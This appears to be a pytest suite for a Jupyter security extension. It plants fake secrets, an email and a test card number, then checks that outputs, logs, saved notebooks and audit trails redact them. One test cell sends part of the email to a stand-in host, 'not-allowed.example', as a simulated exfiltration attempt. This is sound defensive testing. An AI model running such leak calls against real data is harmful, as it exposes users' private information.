"""Unique values are planted in a real server in every way that the promises name, and searched for everywhere."""

from __future__ import annotations

import importlib.util
import json
import os
import random
import sqlite3
import time
from pathlib import Path

import lab as labs
import pytest
from client import Client
from websocket import WebSocketTimeoutException

ROOT = Path(__file__).parents[2]
CARD = "4000056655665556"  # a number that Stripe publishes for tests


def build_demo():
    spec = importlib.util.spec_from_file_location("demo_build", ROOT / "demo" / "build.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


demo = build_demo()


@pytest.fixture(scope="module")
def scene(tmp_path_factory):
    """A server that has been through one of everything; what it said on each way out."""
    root = tmp_path_factory.mktemp("planted")
    temp = root / "tmp"
    temp.mkdir()
    planted = {
        "key": demo.fake_key(random.Random()),
        "mail": f"planted{random.randrange(10**9)}@example.com",
        "card": CARD,
    }
    old = os.environ.get("TMPDIR")
    os.environ["TMPDIR"] = str(temp)
    try:
        with labs.running_lab(root, ROOT / "demo" / "mlsec.toml") as lab:
            yield play(lab, planted) | {"lab": lab, "root": root, "planted": planted}
    finally:
        if old is None:
            del os.environ["TMPDIR"]
        else:
            os.environ["TMPDIR"] = old


def play(lab, planted: dict) -> dict:
    """Every mistake once. Values reach the kernel in pieces, as data would, so that no cell is refused for them."""
    client = Client(lab.url, lab.token)
    events = client.listen()
    kernel = client.start_kernel()
    socket = client.connect(kernel)
    said: list = []
    letters = [ord(letter) for letter in planted["key"]]
    name, host = planted["mail"].split("@")
    pieces = f"key = ''.join(map(chr, {letters}))\nmail = {name!r} + '@' + {host!r}\n"
    pieces += f"card = int({planted['card'][:8]!r} + {planted['card'][8:]!r})\n"
    said += client.run(socket, pieces)
    refused = client.run(socket, f"token = {planted['key']!r}")
    for code in (
        "print(mail, card)",
        "print(mail[:5], end='', flush=True); import time; time.sleep(0.3); print(mail[5:])",
        "mail",
        "import pandas as pd; pd.DataFrame({'email': [mail] * 3, 'card': [card] * 3, 'loss': [.1, .2, .3]})",
        "raise ValueError(f'{mail} {card} {key}')",
        "import sys; sys.stderr.write(key + '\\n')",
        "import os; os.system(f'echo {mail}; echo {key}')",
        "import subprocess; subprocess.run(['echo', mail])",
        "import logging; logging.warning('paid with %s', card)",
        "from IPython.display import display, HTML, JSON; display(HTML(f'<b>{mail}</b>')); display(JSON({'m': mail}))",
        "import threading; t = threading.Thread(target=print, args=(mail,)); t.start(); t.join()",
        f"import urllib.request; urllib.request.urlopen('http://not-allowed.example/?q=' + {name!r})",
    ):
        said += client.run(socket, code)
    said += client.ask(socket, "inspect_request", {"code": "mail", "cursor_pos": 4, "detail_level": 0})
    said += client.ask(socket, "history_request", {"output": True, "raw": True, "hist_access_type": "tail", "n": 50})
    cell = {"cell_type": "code", "id": "c1", "metadata": {}, "execution_count": 1, "outputs": []}
    output = {"output_type": "stream", "name": "stdout", "text": f"{planted['mail']} {planted['card']}\n"}
    body = {"nbformat": 4, "nbformat_minor": 5, "metadata": {}}
    secret = {**body, "cells": [{**cell, "source": f"token = {planted['key']!r}"}]}
    personal = {**body, "cells": [{**cell, "source": "show()", "outputs": [output]}]}
    saves = [
        client.request("PUT", f"api/contents/{name}", {"type": "notebook", "format": "json", "content": content})
        for name, content in (("secret.ipynb", secret), ("personal.ipynb", personal))
    ]
    scanned = client.request(
        "POST",
        "mlsec/scan",
        {"cells": [{"id": "c1", "source": f"token = {planted['key']!r}", "language": "python"}]},
    )
    status = client.request("GET", "mlsec/status")
    heard = []
    while True:
        try:
            heard.append(events.recv())
        except WebSocketTimeoutException:  # the subscription has no other end
            break
    events.close()
    socket.close()
    client.request("DELETE", f"api/kernels/{kernel}")
    time.sleep(1)
    return {"said": said, "refused": refused, "saves": saves, "scanned": scanned, "status": status, "heard": heard}


def test_the_scene_was_played(scene):
    """Guards the searches below against being empty."""
    text = json.dumps(scene["said"])
    assert "[EMAIL-1]" in text and "[CARD-1]" in text and "[SECRET-1]" in text
    assert any(message["content"].get("ename") == "MlsecBlocked" for message in scene["refused"])
    assert any(message["content"].get("ename") == "EndpointBlocked" for message in scene["said"])
    (secret_status, secret_answer), (personal_status, _) = scene["saves"]
    assert secret_status == 422 and "cell 1" in secret_answer["message"].lower()
    assert personal_status in (200, 201)
    assert scene["scanned"][1]["cells"][0]["findings"]
    assert scene["heard"], "the front end hears of verdicts"


@pytest.mark.parametrize("name", ["key", "mail", "card"])
def test_no_client_saw_a_value(scene, name):
    value = scene["planted"][name]
    for part in ("said", "saves", "scanned", "status", "heard"):
        assert value not in json.dumps(scene[part]), part
    assert value not in json.dumps(scene["refused"])


@pytest.mark.parametrize("name", ["key", "mail", "card"])
def test_no_file_holds_a_value(scene, name):
    """Logs, audit trails, notebooks, history databases, runtime and temporary files: all that was written."""
    needle = scene["planted"][name].encode()
    files = [path for path in scene["root"].rglob("*") if path.is_file()]
    assert any(path.name == "server.log" for path in files) and any("audit" in str(path) for path in files)
    assert [str(path) for path in files if needle in path.read_bytes()] == []


def test_the_history_database_was_written_and_holds_no_refused_cell(scene):
    databases = list(scene["lab"].home.rglob("history.sqlite"))
    assert databases
    rows = [row[0] for path in databases for row in sqlite3.connect(path).execute("select source_raw from history")]
    assert any("mail" in row for row in rows)
    assert not any(scene["planted"]["key"] in row for row in rows)


def test_every_verdict_is_in_a_trail_that_verifies(scene):
    from jupyter_mlsec import audit

    folders = {path.parent for path in scene["lab"].home.rglob("*") if path.is_file() and "audit" in path.parent.name}
    assert folders
    events = [event for folder in folders for event in audit.read(folder)]
    gates = {event.gate for event in events}
    assert {"run", "output", "network", "save"} <= gates
    for folder in folders:
        assert audit.verify(folder).is_sound
